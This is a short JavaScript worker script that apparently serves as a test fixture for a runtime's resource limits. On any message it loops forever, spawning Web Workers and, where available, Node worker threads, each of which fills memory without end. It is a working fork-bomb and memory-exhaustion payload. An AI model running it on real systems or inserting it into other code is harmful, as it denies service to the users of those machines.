onmessage = async () => {
  const source = "data:text/javascript,const a=[];for(;;)a.push(new Uint8Array(1<<20).fill(1))";
  const classes = [globalThis.Worker];
  try { classes.push((await import("node:worker_threads")).Worker); } catch { /* as it should be */ }
  const all = [];
  for (;;) {
    for (const Class of classes) {
      try { all.push(new Class(new URL(source), { type: "module" })); } catch { /* goes on */ }
    }
    all.push(new Uint8Array(1 << 18).fill(1));
  }
};
